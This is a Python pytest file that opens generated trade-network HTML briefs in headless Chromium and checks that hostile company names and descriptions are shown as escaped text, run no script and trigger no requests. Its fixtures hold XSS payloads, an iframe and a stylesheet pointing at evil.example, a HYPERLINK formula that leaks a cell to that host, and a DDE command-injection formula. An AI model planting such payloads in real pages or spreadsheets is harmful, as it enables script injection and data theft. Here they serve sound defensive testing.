"""Briefs opened in headless Chromium: hostile names run nothing and fetch nothing; the README screenshot.

Every request the page makes is routed: anything that is not the brief's own file is aborted and
recorded. Each page is opened twice: as written (its Content-Security-Policy on) and with the policy
bypassed, so the escaping is checked on its own and not only the policy behind it.
"""

from __future__ import annotations

import os
import re
import shutil
from pathlib import Path

import pandas as pd
import pytest

import tracekit
from tests.views.browser.conftest import CHROMIUM, chromium

pytestmark = [pytest.mark.browser, pytest.mark.slow]

REPO = Path(__file__).resolve().parents[2]
PWN = "window.__pwned=1"
HOSTILE = {
    "script": f"<script>{PWN};alert(1)</script> Trading Ltd",
    "img": f'<img src=x onerror="{PWN};alert(2)"> Chemicals Co',
    "formula": '=HYPERLINK("http://evil.example/leak?x="&A1,"click") SA',
    "table": f'Acme</td></tr></table><svg onload="{PWN}"> Ltd',
    "frame": '"><iframe src="http://evil.example/frame"></iframe> Imports',
    "style": "<style>body{background:url(http://evil.example/bg.png)}</style> Pharma",
}


@pytest.fixture(scope="module")
def browser():
    if not CHROMIUM.exists():
        pytest.skip("/usr/bin/chromium is missing: run `make browser` (apt-get install chromium)")
    with chromium() as chrome:
        yield chrome


def _open(browser, path: Path, *, bypass_csp: bool) -> dict:
    """Open ``path``; returns what ran, what was fetched and what a reader sees."""
    context = browser.new_context(bypass_csp=bypass_csp, viewport={"width": 1280, "height": 900})
    page = context.new_page()
    seen = {"dialogs": [], "requests": [], "errors": []}
    page.on("dialog", lambda d: (seen["dialogs"].append(d.message), d.dismiss()))
    page.on("pageerror", lambda e: seen["errors"].append(str(e)))

    def route(r):
        if r.request.url.startswith("file://") and r.request.url.split("#")[0] == path.resolve().as_uri():
            r.continue_()
        else:
            seen["requests"].append(r.request.url)
            r.abort()

    page.route("**/*", route)
    page.goto(path.resolve().as_uri())
    page.wait_for_load_state("load")
    page.wait_for_timeout(300)  # an onerror/onload handler would have run by now
    seen["pwned"] = page.evaluate("window.__pwned === undefined ? null : window.__pwned")
    seen["text"] = page.inner_text("body")
    seen["active"] = page.evaluate(
        "document.querySelectorAll('script, iframe, object, embed, svg [onload], [onerror], [onload]').length")
    context.close()
    return seen


def _hostile_csv(folder: Path) -> Path:
    """A trade file whose company names and descriptions are HTML/JS and spreadsheet formulas."""
    rows = []
    subject = HOSTILE["script"]
    partners = [HOSTILE["img"], HOSTILE["formula"], HOSTILE["table"], HOSTILE["frame"], HOSTILE["style"]]
    for i in range(24):
        partner = partners[i % len(partners)]
        upstream = i % 2 == 0
        rows.append({
            "Shipper": partner if upstream else subject, "Consignee": subject if upstream else partner,
            "Date": f"2024-{1 + i % 12:02d}-{1 + i:02d}",
            "Description": (f"<script>{PWN}</script> NPP 99% (CAS 39742-60-4)" if i % 3 == 0
                            else '=cmd|" /C calc"!A0 chemical powder'),
            "HS Code": "2933.39" if i % 3 == 0 else "3824.99", "Weight (kg)": 100 + i,
            "Value USD": 2000 + 10 * i, "Country of Origin": "CN",
        })
    path = folder / "ship<img src=x onerror=alert(5)>.csv"
    pd.DataFrame(rows).to_csv(path, index=False)
    return path


@pytest.fixture(scope="module")
def hostile_brief(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    ws = tracekit.Workspace()  # in memory: the brief copies it for its kernel
    ws.load(str(_hostile_csv(folder)).replace("[", "[[]"), progress=False)
    ws.resolve(progress=False)
    result = ws.brief(HOSTILE["script"], out=folder / "out" / "brief.html", hops=2)
    assert ws.info().shipments == 24  # the caller's workspace is still open and whole
    ws.close()
    return result


def test_hostile_names_brief_runs_no_script_and_fetches_nothing(browser, hostile_brief):
    for bypass in (False, True):
        seen = _open(browser, hostile_brief.html_path, bypass_csp=bypass)
        assert seen["dialogs"] == [] and seen["pwned"] is None, f"script ran (csp bypassed: {bypass}): {seen}"
        assert seen["requests"] == [], f"network requests (csp bypassed: {bypass}): {seen['requests']}"
        assert seen["errors"] == [] and seen["active"] == 0
    text = seen["text"]
    for name in HOSTILE.values():  # shown as the text it is, where the reader can see it
        assert name in text, name
    assert "ship<img src=x onerror=alert(5)>.csv" in text  # the source file's name in the method notes
    assert f"<script>{PWN}</script> NPP 99%" in text  # a flagged description


def test_hostile_brief_notebook_and_title_are_escaped(hostile_brief):
    body = hostile_brief.html_path.read_text("utf-8")
    assert "<script" not in body.lower() and "<iframe" not in body.lower() and "<svg" not in body.lower()
    assert not re.search(r"<[a-z][^>]*\son[a-z]+\s*=", body, re.I), "an element with an event handler"
    assert "<title>Brief: &lt;script&gt;" in body
    assert hostile_brief.html_path.name == "brief.html" and hostile_brief.notebook_path.exists()


def test_screenshot_of_the_demo_brief_for_the_readme(browser, demo_brief):
    seen = _open(browser, demo_brief.html, bypass_csp=False)
    assert seen["requests"] == [] and seen["errors"] == [] and seen["dialogs"] == []
    context = browser.new_context(viewport={"width": 1200, "height": 900}, device_scale_factor=1)
    page = context.new_page()
    page.goto(demo_brief.html.resolve().as_uri())
    bottom = page.evaluate("document.querySelector('img.tk-graph').getBoundingClientRect().bottom + window.scrollY")
    artifacts = REPO / "test-artifacts"
    artifacts.mkdir(exist_ok=True)
    shot = artifacts / "brief.png"  # from the top to the end of the trade network's drawing
    page.screenshot(path=str(shot), full_page=True, clip={"x": 0, "y": 0, "width": 1200, "height": bottom + 40})
    context.close()
    assert shot.stat().st_size > 50_000
    docs = REPO / "docs" / "brief.png"
    if os.environ.get("TRACEKIT_UPDATE_DOCS") or not docs.exists():  # README's picture: refreshed on request
        shutil.copy(shot, docs)
    assert docs.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
